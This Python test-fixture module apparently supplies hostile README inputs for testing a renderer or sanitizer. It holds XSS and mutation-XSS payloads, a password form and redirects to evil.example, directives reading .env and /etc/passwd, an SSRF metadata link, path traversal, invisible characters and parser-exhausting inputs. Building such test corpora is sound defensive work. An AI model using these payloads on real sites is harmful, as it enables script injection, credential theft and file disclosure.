"""Hostile READMEs, each by the name of what it tries."""

# ruff: noqa: E501 -- one attack a line

from readme_formats_corpus import OTHER_FORMATS

N = 512 * 1024

_ATTRIBUTES = """\
---
title: "</title><script>alert(1)</script>"
template: evil.html
---

[TOC]

# Heading {: onclick="alert(1)" #__search .md-overlay }

[link](https://x.example){: onclick="alert(1)" } ![image](https://x.example/a.png){: onerror="alert(1)" }

--8<-- ".env"

--8<--
.env
--8<--

``` mermaid { onclick="alert(1)" }
graph TD; A-->B; click A "javascript:alert(1)"
```

*[HTML]: x" onmouseover="alert(1)

HTML {{ config }} {% raw %} ${{ secrets.TOKEN }} $x$ :smile: ==mark== ^^ins^^ ++ctrl++ ??? !!! note

!!! danger "forged"
    admonition

??? note
    details

[^1]: a
[^1]: b
[one]: https://a.example
[one]: javascript:alert(1)
[one] [^1]
"""

_ELEMENTS = """\
<div markdown="1" id="__search" class="md-overlay md-search" name="x">[x](javascript:alert(1))</div></div></div>
<style>*{display:none}</style><base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">
<form action="//evil.example"><input name="p" type="password"><input type=image src=x><button formaction="javascript:alert(1)">b</button></form>
<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src=x>
<template><script>alert(1)</script></template><portal src="//evil.example"></portal><dialog open>d</dialog>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<svg><style><img src=x onerror=alert(1)></style><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<img src=x onerror=alert(1)><img src=`x`onerror=alert(1)><img/src=x/onerror=alert(1)>
<a href="&#106;avascript:alert(1)">a</a><a href="java&#9;script:alert(1)">b</a><a href="&#1;javascript:alert(1)">c</a>
<a href="JaVaScRiPt:alert(1)">d</a><a href="data:text/html,<script>alert(1)</script>">e</a><a href="//evil.example">f</a>
<a href="https:evil.example">g</a><a href="https://u:t@evil.example">h</a><a href="https://h\\@evil.example">i</a>
<a href="vbscript:x">j</a><a href="file:///etc/passwd">k</a><a href="http://169.254.169.254/">l</a><a href="http://h:99999/">m</a>
<a href="x" target="_blank" ping="//evil.example" style="position:fixed;inset:0" tabindex=1 onfocus=alert(1) autofocus>n</a>
<img srcset="//evil.example/a 1x" src="//evil.example/b"><picture><source srcset="//evil.example/c"><img src="https://evil.example/d"></picture>
<video src="//evil.example" poster="//evil.example"><audio src=x></audio></video><body background="//evil.example" onload=alert(1)>
<table background="//evil.example"><td background="//evil.example">t</td></table><bgsound src=x><link rel=stylesheet href=//evil.example>
<plaintext>x</plaintext>
<xmp><script>alert(1)</script></xmp><textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>
<select><option><script>alert(1)</script></select><isindex action=x><marquee onstart=alert(1)>m</marquee><blink>b</blink>
"""

_TARGETS = """\
![a](../../x.png) [b](../../../../etc/passwd) [c](..%2f..%2fx) [d](..\\..\\x) [e](/etc/../..) [f](%00) [g](.) [h](./) [i](docs/)
[j](<javascript:alert(1)>) [k](?x#y) [l](#nowhere) [m](docs/a b.md) [n](<docs/a"b.md>) [o](a:b) [p](a//b) [q](%2e%2e/%2e%2e/x)
![r](data:image/svg+xml;base64,PHN2Zy8+) ![](https://evil.example/pixel.gif) <img src="https://evil.example/p" width=1 height=1>
<https://ok.example/?a=1&b=2> <javascript:alert(1)> www.ok.example me@ok.example mailto:a@b.example?bcc=c@d.example
"""

_DIRECTIVES = """\
Title
=====

.. include:: /etc/passwd
.. include:: ../../.env
   :literal:
.. raw:: html

   <script>alert(1)</script>

.. raw:: html
   :file: /etc/passwd

.. csv-table:: x
   :file: /etc/passwd

.. csv-table:: x
   :url: file:///etc/passwd

.. image:: javascript:alert(1)
   :target: javascript:alert(1)
   :alt: "><script>alert(1)</script>
   :class: md-overlay
   :name: __search

.. figure:: https://evil.example/a.png
   :scale: 50 %

.. role:: raw-html(raw)
   :format: html

.. role:: danger
   :class: md-overlay

.. meta::
   :http-equiv=refresh: 0

.. math:: x < y

.. code:: python
   :name: __search

   print("<script>")

.. class:: md-overlay

.. contents::

.. |now| date:: %Y

.. unknown:: x

.. default-role:: danger

:raw-html:`<script>alert(1)</script>` `x` :danger:`y` :ref:`z` |now| |missing| `bad <javascript:alert(1)>`_ missing_

.. _javascript target: javascript:alert(1)

`javascript target`_

Title
=====
"""

HOSTILE: dict[str, tuple[str, bytes]] = {
    "attribute lists, snippets and macros": ("README.md", _ATTRIBUTES.encode()),
    "elements that act": ("README.md", _ELEMENTS.encode()),
    **{f"element line {n}": ("README.md", line.encode()) for n, line in enumerate(_ELEMENTS.splitlines())},
    "targets of all kinds": ("docs/README.md", _TARGETS.encode()),
    "HTML by name": ("README.html", _ELEMENTS.encode()),
    "directives that read files": ("README.rst", _DIRECTIVES.encode()),
    "closing what it did not open": ("README.md", b"</div></div></section></article></main></body></html>\n\n# x"),
    "a leading front matter": ("README.md", b"---\ntemplate: ../../.env\n---\n# Real\n"),
    "a front matter that never ends": ("README.md", b"---\ntemplate: x\n# Real\n"),
    "TOML front matter": ("README.md", b"+++\ntitle = 'x'\n+++\n# Real\n"),
    "lone marked section": ("README.md", b"a <![ b\n\n<![CDATA[ <script>alert(1)</script>\n"),
    "lone comment": ("README.md", b"a <!-- b <script>alert(1)</script>"),
    "lone instruction": ("README.md", b"a <? b <script>alert(1)</script>"),
    "placeholder of the next parser": (
        "README.md",
        b"\x02wzxhzdk:0\x03 &#2;wzxhzdk:0&#3; \x02amp\x03 klzzwxh:0001",
    ),
    "bidirectional and invisible": (
        "README.md",
        "a\u202eb\u2066c\u200fd\ufeff\U000e0041 &#x202e;x\u2028y\x85z".encode(),
    ),
    "five hundred marks": ("README.md", ("a" + "\u0301" * 500).encode()),
    "UTF-8 with a mark": ("README.md", "\ufeff# Ünïcode".encode()),
    "UTF-16": ("README.md", "# Ünïcode".encode("utf-16")),
    "Latin-1": ("README.md", "# Ünïcode für Köln".encode("latin-1")),
    "invalid UTF-8": ("README.md", "# Ünïcode ".encode() + b"\xff\xfe\x80"),
    "surrogates in UTF-8": ("README.md", b"# a \xed\xa0\x80 b"),
    "NUL": ("README.md", b"# a\x00b <scr\x00ipt>alert(1)</scr\x00ipt>"),
    "CR only": ("README.md", b"# One\r\rtwo\r\r## Three\r"),
    "empty": ("README.md", b""),
    "blank": ("README.md", b" \n\t\n"),
    "binary": ("README", bytes(range(256)) * 40),
    "LFS pointer": ("README.md", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"),
    "AsciiDoc": ("README.adoc", b"= Title\n\n++++\n<script>alert(1)</script>\n++++\n"),
    "Org": ("README.org", b"#+HTML: <script>alert(1)</script>\n* Title"),
    "no extension": ("README", b"<script>alert(1)</script>\n  kept  as it is"),
    "a name that is a path": ("../../etc/README.md", b"[x](y)"),
    "ten megabytes": ("README.md", b"words " * (10 * 1024 * 1024 // 6)),
    "a line of five megabytes": ("README.md", b"y" * (5 * 1024 * 1024)),
    "opening brackets": ("README.md", b"[" * 20_000),
    "opening pictures": ("README.md", b"![" * 20_000),
    "quote marks": ("README.md", b">" * 20_000),
    "quotes in many lines": ("README.md", (b">" * 100 + b"\n") * 5_000),
    "half a megabyte of quote marks": ("README.md", b">" * N),
    "emphasis": ("README.md", b"**_*_" * 20_000),
    "backticks": ("README.md", b" ".join(b"`" * n for n in range(1, 1_000))),
    "half links": ("README.md", b"[a](b" * 20_000),
    "deep lists": ("README.md", b"\n".join(b"  " * n + b"- x" for n in range(400))),
    "markers in a line": ("README.md", b"- " * 20_000 + b"x"),
    "divs": ("README.md", b"<div>" * 20_000),
    "unclosed formatting": ("README.md", b"".join(b"<b id=x%d>" % n for n in range(99)) + b"<p>x" * 50_000),
    "some unclosed formatting": ("README.md", b"".join(b"<b id=x%d>" % n for n in range(40)) + b"<p>x" * 20_000),
    "wide table": (
        "README.md",
        b"|".join([b"a"] * 2_000) + b"\n" + b"|".join([b"-"] * 2_000) + b"\n" + b"|\n" * 100_000,
    ),
    "references": ("README.md", b"".join(b"[a%d]: /x%d\n" % (n, n) for n in range(5_000)) + b"\n" + b"[a1] " * 50_000),
    "redefined references and footnotes": (
        "README.md",
        b"[a] [b][a] [^1] [^1]\n\n[a]: https://ok.example\n[A]: javascript:alert(1)\n[a]: //evil.example\n"
        b"[^1]: x\n[^1]: <script>alert(1)</script>\n\n[^1]: [x](javascript:alert(1))\n",
    ),
    "footnotes": ("README.md", b"[^1] " * 50_000 + b"\n\n[^1]: x\n"),
    "comments": ("README.md", b"<!--" * 100_000),
    "marked sections": ("README.md", b"<![" * 100_000),
    "headings of one name": ("README.md", b"# a\n" * 20_000),
    "links by the thousand": ("README.md", b"".join(b"[a](x%d) " % n for n in range(10_000))),
    "badges by the thousand": ("README.md", b"![a](https://evil.example/b.svg) " * 10_000),
    "tables in links in tables": ("README.md", b"<table><a href=x><td><a href=y>" * 40),
    "objects in paragraphs": ("README.md", b"<p>a<object>" * 90),
    "blank lines in pre": ("README.md", b"<pre>\n\n\n\n\n\n\n\n\n\n\nx</pre>"),
    "reStructuredText that is slow": ("README.rst", b"`a <b>`_ *c |d| " * 30_000),
    "reStructuredText that nests": ("README.rst", b"\n".join(b" " * n + b"* x\n" for n in range(600))),
    **OTHER_FORMATS,
}
